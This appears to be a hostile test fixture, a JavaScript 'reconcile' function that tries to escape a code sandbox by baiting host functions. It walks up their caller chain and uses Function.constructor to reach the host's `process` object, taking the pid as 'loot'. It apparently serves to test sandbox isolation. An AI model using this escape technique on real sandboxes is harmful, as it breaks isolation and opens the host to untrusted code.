// @ts-nocheck
// biome-ignore-all lint: hostile code
// Functions of the outside that run one's own code, found as its caller.
export const reconcile = async (object, context) => {
  let loot
  const look = function () {
    for (const read of [() => look.caller, () => look.arguments, () => arguments.callee.caller]) {
      try {
        const found = read().constructor('return process')()
        loot ??= found.pid
      } catch {}
    }
    return 'v1/Pod'
  }
  const bait = { toString: look, toJSON: look, valueOf: look, then: look }
  for (const call of [
    () => context.log.info(bait),
    () => context.get(bait, bait),
    () => new URL(bait),
    () => setTimeout(look, 0),
    () => queueMicrotask(look),
    () => structuredClone(bait),
    () => Promise.resolve(bait),
  ]) {
    try {
      void call()
    } catch {}
  }
  await new Promise((resolve) => setTimeout(resolve, 20))
  return { loot }
}
